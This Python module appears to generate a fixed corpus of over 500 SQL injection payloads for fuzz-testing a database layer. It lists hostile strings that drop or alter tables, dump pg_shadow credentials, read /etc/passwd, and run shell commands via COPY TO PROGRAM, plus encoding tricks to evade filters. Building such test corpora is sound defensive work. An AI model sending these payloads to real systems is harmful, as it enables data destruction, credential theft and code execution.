"""More than 500 SQL injection payloads: chosen by hand, then varied. Deterministic."""

from itertools import product
from typing import Final

HAND_PICKED: Final = [
    "'", "''", "\\'", "\\", "\\\\'", '"', "`", ";", "--", "#", "/*", "*/", "/*!", "%", "_", "!",
    "{word}", "{kind}", ":p0", ":word", "%(p0)s", "%s", "?", "$1", "$$", "$x$", "@@version",
    "\\x27", "\\u0027", "&#39;", "%27", "%2527", "' OR '1'='1", "' OR 1=1--", "' OR 1=1#",
    "' OR 1=1/*", "') OR ('1'='1", "')) OR (('1'='1", "\\' OR 1=1--", "\\'; DROP TABLE items; --",
    "'; DROP TABLE items; --", "'; DELETE FROM items; --", "'; UPDATE items SET price=0; --",
    "'; INSERT INTO items VALUES (999,'x',1,'x','2026-01-01'); --", "1; DROP TABLE items",
    "1 OR 1=1", "0 UNION SELECT 1", "' UNION SELECT 1,2,3--", "' UNION ALL SELECT NULL,NULL,NULL--",
    "' UNION SELECT sql,1,1 FROM sqlite_master--",
    "' UNION SELECT usename,passwd,1 FROM pg_shadow--", "' AND SLEEP(5)--",
    "'; SELECT pg_sleep(10)--", "' || pg_sleep(10) || '",
    "' || (SELECT pg_read_file('/etc/passwd')) || '", "'; COPY items TO '/tmp/x'; --",
    "'; COPY (SELECT 1) TO PROGRAM 'id'; --", "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "'; PRAGMA writable_schema=1; --", "'; VACUUM INTO '/tmp/x'; --", "load_extension('x')",
    "' || load_extension('x') || '", "'; SET ROLE postgres; --",
    "'; COMMIT; BEGIN READ WRITE; DELETE FROM items; --", "'; SET TRANSACTION READ WRITE; --",
    "'; RESET ALL; --", "' || set_config('statement_timeout','0',false) || '",
    "' || nextval('s') || '", "' || lo_import('/etc/passwd') || '",
    "' || dblink_exec('host=x','DROP TABLE items') || '", "'/**/OR/**/1=1--", "'/*!50000OR*/1=1--",
    "'%0aOR%0a1=1", "' OR ''='", "' OR 'x' LIKE 'x", "' OR EXISTS(SELECT 1)--", "' HAVING 1=1--",
    "' GROUP BY id--", "' ORDER BY 99--", "' LIMIT 0--", "' INTO OUTFILE '/tmp/x'--",
    "' FOR UPDATE--", "CHAR(39)", "CHR(39)||'", "0x27", "x'27'", "E'\\''", "U&'\\0027'", "N'x'",
    "q'[x]'", "$$;DROP TABLE items;$$", "$tag$;DROP TABLE items;$tag$", "\n; DROP TABLE items\n--",
    "\r\n'--", "\t' OR 1=1", "\u2019 OR 1=1", "\u02bc OR 1=1", "\uff07 OR 1=1", "\u00a0' OR 1=1",
    "\u200b'--", "\ufeff'", "a" * 5000, "'" * 500, "\\" * 501, "(" * 200, "null", "NULL", "true",
    "1e999", "NaN", "-0", "9" * 60, "", " ", "\u202e'--", "\U0001f600'", "e\u0301'",
    "Robert'); DROP TABLE students;--", "{{7*7}}", "{0.__class__}", "${x}", "%n", "[1,2]",
    '{"a": 1}', "tgbind_0_tgend", "tgparam_word_tgend", "\\:p0", "::text", "item 1",
]  # fmt: skip
PREFIXES: Final = ["item 1", "\\", "x')"]
SUFFIXES: Final = [" --", "'"]


def payloads() -> list[str]:
    """Each by itself, and those of ordinary length with something before or after."""
    short = [text for text in HAND_PICKED if 0 < len(text) < 60]
    varied = [f"{prefix}{text}" for prefix, text in product(PREFIXES, short)]
    varied += [f"{text}{suffix}" for suffix, text in product(SUFFIXES, short)]
    return list(dict.fromkeys([*HAND_PICKED, *varied]))
